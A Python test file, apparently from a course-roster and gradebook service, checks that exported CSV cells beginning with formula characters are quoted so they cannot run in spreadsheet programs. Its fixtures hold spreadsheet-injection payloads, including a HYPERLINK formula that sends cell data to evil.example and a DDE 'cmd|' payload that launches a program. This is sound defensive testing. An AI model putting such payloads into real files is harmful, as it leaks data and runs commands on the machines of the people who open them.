"""Attack: a formula in a roster's name (or class) column, written back into the invitations CSV,
the gradebook CSV and the CLI's class list, runs when the instructor opens the file in Excel,
LibreOffice or WPS (``=HYPERLINK(...)`` sends the sheet's cells to another site; ``=cmd|...``
in old Excel).  Every such text cell must start with ``'`` (core/spreadsheet.py); numbers stay."""

from __future__ import annotations

import csv
import io

import pytest

from api.services import accounts
from core import spreadsheet
from core.db import session_factory
from tests.api.conftest import bearer
from tests.api.test_roster import prefix

FORMULAS = ['=HYPERLINK("https://evil.example/?"&A2,"成绩")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)",
            "\t=1+1", "＝1+1"]


@pytest.mark.parametrize("value", FORMULAS)
def test_a_formula_becomes_text(value):
    assert spreadsheet.cell(value) == "'" + value


@pytest.mark.parametrize("value", ["李雷", "Li Lei", "-0.5", "12", "+3", "1e-3", 4.5, None, "a=b"])
def test_names_and_numbers_stay_as_they_are(value):
    assert spreadsheet.cell(value) == value


def rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def test_a_hostile_roster_name_is_text_in_every_csv(client, course):
    p = prefix(course)
    hostile = '=HYPERLINK("https://evil.example/?"&A2)'
    file = f"学号,姓名,班级\n{p}x1,{hostile},=1+1\n".encode()
    imported = client.post(f"/api/v1/courses/{course['course']}/roster", headers=bearer(course, "instructor"),
                           params={"format": "csv"}, files={"file": ("roster.csv", file)})
    assert imported.status_code == 200, imported.text
    invitation = rows(imported.content)[1]
    assert invitation[:3] == [f"{p}x1", "'" + hostile, "'=1+1"]

    reissued = client.post(f"/api/v1/courses/{course['course']}/invitations", headers=bearer(course, "instructor"),
                           json={"students": [f"{p}x1"]})
    assert reissued.status_code == 200 and rows(reissued.content)[1][1] == "'" + hostile

    book = client.get(f"/api/v1/courses/{course['course']}/gradebook.csv", headers=bearer(course, "instructor"))
    assert book.status_code == 200
    mine = next(row for row in rows(book.content) if row[0] == f"{p}x1")
    assert mine[1] == "'" + hostile
    assert not any(cell.startswith(("=", "+", "@")) for row in rows(book.content) for cell in row)


def test_an_invitation_code_is_never_quoted(api_settings, course, monkeypatch):
    """A code is 16 URL-safe characters: one in 64 began with ``-``, which a spreadsheet runs as
    a formula (and core/spreadsheet.py would then quote, changing the code in the file)."""
    drawn = iter(["-AbCdEfGhIjKlMnO", "PqRsTuVwXyZ01234"])
    monkeypatch.setattr(accounts.secrets, "token_urlsafe", lambda n: next(drawn))
    with session_factory(api_settings.database_url)() as session:
        code = accounts.invite(session, api_settings, accounts.user_by_name(session, course["students"][0]))
        session.rollback()
    assert code == "PqRsTuVwXyZ01234" and spreadsheet.cell(code) == code
